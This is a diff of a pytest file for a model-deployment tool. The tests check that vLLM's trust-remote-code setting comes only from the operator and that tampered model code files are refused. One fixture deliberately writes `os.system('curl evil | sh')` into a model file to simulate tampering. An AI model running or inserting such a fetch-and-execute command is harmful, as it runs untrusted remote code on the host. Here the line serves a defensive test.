@@ -82,8 +82,12 @@ def test_helm_command_upgrades_with_the_version_set_last(tmp_path):
                               namespace="serving", extra=["--atomic"])
     assert cmd[1:5] == ["upgrade", "--install", "r", str(deploy.CHART)]
     assert cmd[5:11] == ["--namespace", "serving", "--reset-then-reuse-values", "--wait", "--timeout", "30m"]
-    assert cmd[-7:] == ["--set-string", "model.name=m", "--set-string", "model.version=20261128",
-                        "--set-string", "artifactStore.root=s3://b/p", "--atomic"]
+    # Remote code is set both ways: off unless the operator's switch is on, whatever the release had.
+    assert cmd[-9:] == ["--set-string", "model.name=m", "--set-string", "model.version=20261128",
+                        "--set-string", "artifactStore.root=s3://b/p", "--set", "vllm.trustRemoteCode=false", "--atomic"]
+    trusted = deploy.helm_command(release="r", model_name="m", version="v", artifact_root="s3://b/p", values=[], namespace=None,
+                                  trust_remote_code=True)
+    assert trusted[-2:] == ["--set", "vllm.trustRemoteCode=true"]
     assert cmd.index("--values") < cmd.index("--set-string")
     reset = deploy.helm_command(release="r", model_name="m", version="v", artifact_root="s3://b/p", values=[], namespace=None,
                                 reset_values=True, timeout="1h")
@@ -94,7 +98,12 @@ def test_helm_command_upgrades_with_the_version_set_last(tmp_path):
 
 OPERATOR_VALUES = {"apiKey": {"existingSecret": "lawtune-api-key"}, "artifactStore": {"root": "s3://b/p"},
                    "model": {"name": "legal-assistant", "version": "v1"},
-                   "maintenance": {"enabled": True, "message": "Back at 10:00 UTC."}, "ui": {"enabled": True, "auth": "ingress"}}
+                   "maintenance": {"enabled": True, "message": "Back at 10:00 UTC."},
+                   "ui": {"enabled": True, "auth": "ingress", "ingress": {
+                       "identityHeader": "X-Auth-Request-Email",
+                       "from": [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "ingress-nginx"}}}]}},
+                   # An earlier deploy of a model that ran its own code: the next deploy must not inherit it.
+                   "vllm": {"trustRemoteCode": True}}
 
 
 def _upgrade_against_a_release(tmp_path, **command) -> dict:
@@ -141,8 +150,12 @@ def test_a_deploy_keeps_the_values_operators_set_on_the_release(tmp_path):
     release = _upgrade_against_a_release(tmp_path)
     assert release["version"] == 4 and release["config"]["model"]["version"] == "v2"
     assert release["config"]["maintenance"] == OPERATOR_VALUES["maintenance"]
-    assert release["config"]["ui"] == {"enabled": True, "auth": "ingress"}
+    assert release["config"]["ui"] == OPERATOR_VALUES["ui"]
     assert "Back at 10:00 UTC." in release["manifest"]  # the gateway still answers with the maintenance message
+    # ... but remote code is the switch of this deploy, never one kept from the last (reuse-values kept it on).
+    assert release["config"]["vllm"]["trustRemoteCode"] is False and "--trust-remote-code" not in release["manifest"]
+    trusted = _upgrade_against_a_release(tmp_path, trust_remote_code=True)
+    assert trusted["config"]["vllm"]["trustRemoteCode"] is True and "--trust-remote-code" in trusted["manifest"]
     fresh = _upgrade_against_a_release(tmp_path, reset_values=True)  # --reset-values: only the files and the pin
     assert "maintenance" not in fresh["config"] and fresh["config"]["model"]["version"] == "v2"
 
@@ -252,17 +265,69 @@ def _vllm_args(objects: list[dict]) -> list[str]:
     return container["args"]
 
 
-def test_a_version_that_carries_its_model_code_is_served_with_trust_remote_code(published, tmp_path, capfd):
-    """ChatGLM3's config maps its classes to code in the repository (auto_map); vLLM refuses such
-    a model without --trust-remote-code, so deploy turns it on from the version itself."""
-    settings, values = published
-    helm_path()
+def _fetch_args(objects: list[dict]) -> list[str]:
+    (vllm,) = [o for o in objects if o["kind"] == "Deployment" and o["metadata"]["name"].endswith("-vllm")]
+    return vllm["spec"]["template"]["spec"]["initContainers"][0]["args"]
+
+
+GLM_CONFIG = {"model_type": "chatglm", "auto_map": {
+    "AutoConfig": "configuration_chatglm.ChatGLMConfig", "AutoModelForCausalLM": "modeling_chatglm.ChatGLMForConditionalGeneration"}}
+
+
+def _publish_glm(settings, tmp_path, *, record: bool = True, tamper: bool = False) -> None:
+    """models/legal-assistant/glm: ChatGLM3-like (auto_map + its code file), with publish's record of the code."""
+    from shared.store.model_code import code_files
+
     src = tmp_path / "src-glm"
     src.mkdir()
-    (src / "config.json").write_text(json.dumps({"model_type": "chatglm", "auto_map": {
-        "AutoConfig": "configuration_chatglm.ChatGLMConfig", "AutoModelForCausalLM": "modeling_chatglm.ChatGLMForConditionalGeneration"}}))
+    (src / "config.json").write_text(json.dumps(GLM_CONFIG))
+    (src / "modeling_chatglm.py").write_text("class ChatGLMForConditionalGeneration: pass\n")
+    recorded = code_files(src)
+    if tamper:  # the store now holds other code than the code finetune ran
+        (src / "modeling_chatglm.py").write_text("import os; os.system('curl evil | sh')\n")
     commit_dir(src, open_location(f"{settings.models_uri('legal-assistant')}/glm", settings), stage="publish", inputs={},
-               started_at=now_iso())
+               started_at=now_iso(), extra={"remote_code": recorded} if record else {})
+
+
+def test_the_versions_own_config_never_turns_remote_code_on(published, tmp_path, capfd):
+    """issue 24 item 2: before, deploy set vllm.trustRemoteCode=true because the stored config had an auto_map."""
+    settings, values = published
+    helm_path()
+    _publish_glm(settings, tmp_path)
+    assert deploy.main(["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]) == 2
+    err = capfd.readouterr().err.strip().splitlines()
+    assert err[-1].startswith("lawtune deploy: error: version glm needs its repository's own code")
+    assert "--trust-remote-code" in err[-1] and "vllm.trustRemoteCode: true" in err[-1], err
+
+
+@pytest.mark.parametrize("switch", ["flag", "values"])
+def test_the_operators_switch_serves_the_recorded_code(published, tmp_path, capfd, switch):
+    settings, values = published
+    helm_path()
+    _publish_glm(settings, tmp_path)
+    argv = ["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]
+    if switch == "flag":
+        argv.append("--trust-remote-code")
+    else:
+        on = tmp_path / "trust.yaml"
+        on.write_text(yaml.safe_dump({"vllm": {"trustRemoteCode": True}}))
+        argv += ["-f", str(on)]
+    objects = _rendered(capfd, argv)
+    assert "--trust-remote-code" in _vllm_args(objects)
+    # The init container checks the code files against the version's record again, in the pod.
+    assert _fetch_args(objects)[-1] == "--trust-remote-code"
     assert "--trust-remote-code" not in _vllm_args(_rendered(capfd, ["--release", "a", "-f", str(values), "--dry-run"]))
-    args = _vllm_args(_rendered(capfd, ["--release", "a", "-f", str(values), "--dry-run", "--version", "glm"]))
-    assert "--trust-remote-code" in args
+
+
+@pytest.mark.parametrize(("record", "tamper", "needle"), [
+    pytest.param(True, True, "modeling_chatglm.py: sha256 .* differs from the .* recorded; refused", id="code-changed"),
+    pytest.param(False, False, "modeling_chatglm.py: .* records no remote-code digests", id="no-record"),
+])
+def test_code_files_the_record_does_not_allow_are_refused(published, tmp_path, capfd, record, tamper, needle):
+    import re
+
+    settings, values = published
+    _publish_glm(settings, tmp_path, record=record, tamper=tamper)
+    assert deploy.main(["--release", "a", "-f", str(values), "--dry-run", "--version", "glm", "--trust-remote-code"]) == 2
+    err = capfd.readouterr().err.strip().splitlines()
+    assert err[-1].startswith("lawtune deploy: error: ") and re.search(needle, err[-1]), err
